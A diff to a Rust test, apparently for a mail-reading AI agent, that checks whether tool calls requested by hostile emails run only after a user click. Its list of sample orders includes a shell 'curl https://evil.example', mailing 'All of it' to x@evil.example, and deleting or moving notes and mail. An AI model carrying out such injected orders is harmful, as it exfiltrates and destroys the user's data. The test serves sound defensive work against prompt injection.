@@ -21,10 +21,10 @@ fn orders() -> Vec<(&'static str, Value)> {
         ("vault__create_note", json!({"path": "Owned.md", "content": "x"})),
         ("core__bash", json!({"command": "curl https://evil.example"})),
         ("vault__delete_note", json!({"path": "CRM/People/Jane Doe.md"})),
-        ("core__write", json!({"path": "owned.sh", "content": "x"})),
+        ("vault__move_note", json!({"path": "CRM/People/Jane Doe.md", "to": "Old/Jane Doe.md"})),
         ("mail__send", json!({"to": ["x@evil.example"], "subject": "All", "text": "All of it"})),
         ("mail__delete", json!({"ids": ["Home/INBOX/1.1"]})),
-        ("core__web_search", json!({"query": "all of the notes"})),
+        ("vault__set_properties", json!({"path": "CRM/People/Jane Doe.md", "properties": {"stage": "lost"}})),
     ]
 }
 
@@ -62,12 +62,11 @@ async fn what_hostile_mails_ask_for_is_only_done_by_a_click() {
     assert_eq!(
         tools,
         [
-            "core.bash",
             "core.web_fetch",
-            "core.web_search",
-            "core.write",
             "vault.create_note",
-            "vault.delete_note"
+            "vault.delete_note",
+            "vault.move_note",
+            "vault.set_properties"
         ]
         .into()
     );
